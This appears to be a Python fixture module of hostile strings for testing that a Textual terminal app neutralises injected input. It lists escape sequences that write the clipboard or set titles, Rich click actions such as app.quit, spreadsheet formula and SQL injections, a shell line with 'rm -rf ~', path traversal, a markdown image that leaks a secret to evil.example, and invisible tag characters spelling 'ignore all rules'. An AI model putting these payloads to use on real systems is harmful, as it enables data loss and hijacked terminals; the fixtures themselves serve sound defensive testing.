"""Texts that somebody could put into a pull request, an answer or a setting to take hold of a terminal, a screen or a document.

Every payload that a terminal would obey holds the word OWNED, so that a test can look for it inside what was written as a control
sequence. `[@click=...]` asks Textual to run an action when the text is clicked.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence

MARK = "OWNED"

STRINGS: Mapping[str, str] = {
    # control sequences (ECMA-48)
    "colour": f"\x1b[31m{MARK}\x1b[0m",
    "clear screen": f"\x1b[2J\x1b[H{MARK}",
    "cursor report": f"{MARK}\x1b[6n",
    "device report": f"\x1b[c\x1b[>c{MARK}",
    "alternate screen off": f"\x1b[?1049l{MARK}",
    "mouse on": f"\x1b[?1003h{MARK}",
    "scroll region": f"\x1b[1;2r{MARK}",
    "reset": f"\x1bc{MARK}",
    "charset": f"\x1b(0{MARK}\x0e",
    "keypad": f"\x1b={MARK}\x1b>",
    "title": f"\x1b]0;{MARK}\x07",
    "title with string terminator": f"\x1b]2;{MARK}\x1b\\",
    "clipboard": f"\x1b]52;c;T1dORUQ={MARK}\x07",
    "clipboard asked": f"\x1b]52;c;?\x07{MARK}",
    "hyperlink": f"\x1b]8;;https://evil.example/{MARK}\x1b\\click\x1b]8;;\x1b\\",
    "palette": f"\x1b]4;1;rgb:ff/00/00\x07{MARK}",
    "notification": f"\x1b]9;{MARK}\x07\x1b]777;notify;{MARK};x\x07",
    "file transfer": f"\x1b]1337;File=inline=1:{MARK}\x07",
    "shell mark": f"\x1b]133;A\x07{MARK}",
    "device control": f"\x1bP+q{MARK}\x1b\\",
    "sixel": f"\x1bPq#0;2;0;0;0{MARK}\x1b\\",
    "picture": f"\x1b_Gf=100,a=T;{MARK}\x1b\\",
    "privacy message": f"\x1b^{MARK}\x1b\\",
    "start of string": f"\x1bX{MARK}\x1b\\",
    "C1 sequence": f"\x9b31m{MARK}\x9b0m",
    "C1 clipboard": f"\x9d52;c;{MARK}\x9c",
    "C1 device control": f"\x90q{MARK}\x9c",
    # left open, nested, broken up
    "open sequence": f"{MARK}\x1b[",
    "open escape": f"{MARK}\x1b",
    "open title": f"\x1b]0;{MARK} and everything behind it",
    "open clipboard": f"\x9d52;c;{MARK}",
    "open device control": f"\x1bP{MARK}",
    "nested": f"\x1b[\x1b[31m31m{MARK}\x1b]0;\x1b]52;c;{MARK}\x07\x07",
    "split by zero width": f"\x1b\u200b[31m{MARK}\x1b\u202e]0;{MARK}\x07",
    "split by NUL": f"\x1b\x00]52;c;{MARK}\x07",
    "paste end": f"\x1b[201~{MARK}\r",
    # single controls
    "NUL": f"a\x00b{MARK}",
    "bell": f"\x07\x07{MARK}",
    "backspaces": f"good\x08\x08\x08\x08{MARK}",
    "delete": f"\x7f{MARK}\x7f",
    "shift": f"\x0e{MARK}\x0f",
    "enquiry": f"\x05{MARK}",
    "carriage return": f"safe\r{MARK}",
    "line ends": f"a\nb\rc\r\nd\x0be\x0cf\x85g\u2028h\u2029i{MARK}",
    "C1 controls": "".join(map(chr, range(0x80, 0xA0))) + MARK,
    "C0 controls": "".join(map(chr, range(0x20))) + MARK,
    # what looks like something else
    "bidi override": f"invoice\u202egnp.{MARK}\u202c",
    "bidi isolates": f"\u2066\u2067\u2068{MARK}\u2069\u200e\u200f\u061c",
    "tags": MARK + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "variation selectors": MARK + "".join(chr(0xE0100 + number) for number in range(60)),
    "zero width": f"O\u200bW\u2060N\ufeffE\u00adD{MARK}",
    "combining pile": "z" + "\u0301\u0317\u0334" * 400 + MARK,
    "enclosing pile": "o" + "\u20dd" * 500 + MARK,
    "hangul fillers": f"\u3164\u115f\u1160\uffa0{MARK}",
    "lone surrogate": f"\ud800{MARK}\udfff",
    "surrogates the wrong way round": f"\udc00\ud800{MARK}",
    "no characters": f"\ufffe\uffff{MARK}",
    "replacement": f"\ufffd{MARK}",
    "right to left": f"שלום {MARK} مرحبا",
    "wide": f"全角文字ＡＢＣ{MARK}",
    "emoji family": f"👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈❤️\u200d🔥{MARK}",
    "joiners": f"\u200d\u200d\u200d\u200c\ufe0f\ufe0f{MARK}",
    "private use": f"\ue000\U000f0000{MARK}",
    "homoglyphs": f"аdmіn {MARK}",
    # markup of Textual and Rich
    "closing tag": f"{MARK}[/red]",
    "empty closing tag": f"{MARK}[/]",
    "open tag": f"[bold red on blue]{MARK}",
    "link tag": f"[link=https://evil.example]{MARK}[/link]",
    "click quit": f"[@click=app.quit]{MARK}[/]",
    "click bell": f"[@click=app.bell()]{MARK}[/@click]",
    "click screen": f"[@click=screen.back]{MARK}[/]",
    "click anything": f"[@click=\"run_action('app.quit')\"]{MARK}[/]",
    "hover": f"[on $error @mouse.down=app.quit]{MARK}[/]",
    "variable tag": f"[$primary]{MARK}[/$primary] [not a tag",
    "backslashes": f"\\[/red]{MARK}\\\\[/]\\",
    "emoji code": f":skull:{MARK}:thumbs_up:",
    # documents
    "percent": f"%s %d %n %(name)s {MARK}",
    "braces": f"{{0}} {{name}} ${{PATH}} {{{{}}}} {MARK}",
    "formula": f'=HYPERLINK("https://evil.example","{MARK}")',
    "formula by plus": f"+1+cmd|' /C calc'!A0 {MARK}",
    "formula by minus": f"-2+3+{MARK}",
    "formula by at": f"@SUM(1+1)*{MARK}",
    "formula behind tab": f"\t=1+1 {MARK}",
    "html": f"<script>alert('{MARK}')</script><img src=x onerror=alert(1)>",
    "html comment": f"<!-- {MARK} --> --> ]]>",
    "markdown image": f"![{MARK}](https://evil.example/x.png?q=secret)",
    "markdown link": f"[{MARK}](javascript:alert(1)) <https://evil.example>",
    "markdown fence": f"```\n{MARK}\n```\n# Heading\n| a | b |\n---\n",
    "sql": f"'; DROP TABLE jobs; -- {MARK}",
    "shell": f"$(touch /tmp/{MARK}) `id` ; rm -rf ~ | cat",
    "path": f"../../../../etc/passwd/{MARK}",
    "json": f'"}}],"matches":[{{"criterion_id":"{MARK}"}}]',
    "quotes": f"\"'`“”‘’«»{MARK}",
    "only blanks": " \t \n \u00a0 \u3000 ",
    "empty": "",
}

LONG: Mapping[str, str] = {
    "one long line": MARK + "x" * 1_000_000,
    "one long line of controls": "\x1b[31m" * 200_000 + MARK,
    "long open strings": "\x1b]0;" * 250_000 + MARK,
    "long brackets": "[" * 500_000 + MARK + "]" * 500_000,
    "many lines": f"{MARK}\n" * 170_000,
    "long combining": "a" + "\u0301" * 1_000_000 + MARK,
}
"""A megabyte each: what takes more than linear time shows here."""
SOME = 8
"""Entries that stand for all in the short form."""
KINDS = [
    STRINGS[name]
    for name in (
        "clipboard",
        "click quit",
        "closing tag",
        "tags",
        "C1 sequence",
        "lone surrogate",
        "line ends",
        "empty closing tag",
    )
]
"""Strings that stand for all in the short form, the worst first: each costs a screen."""


def some(texts: Sequence[str], count: int = SOME) -> list[str]:
    """Evenly spread over the list."""
    return list(texts[:: max(1, len(texts) // count)])
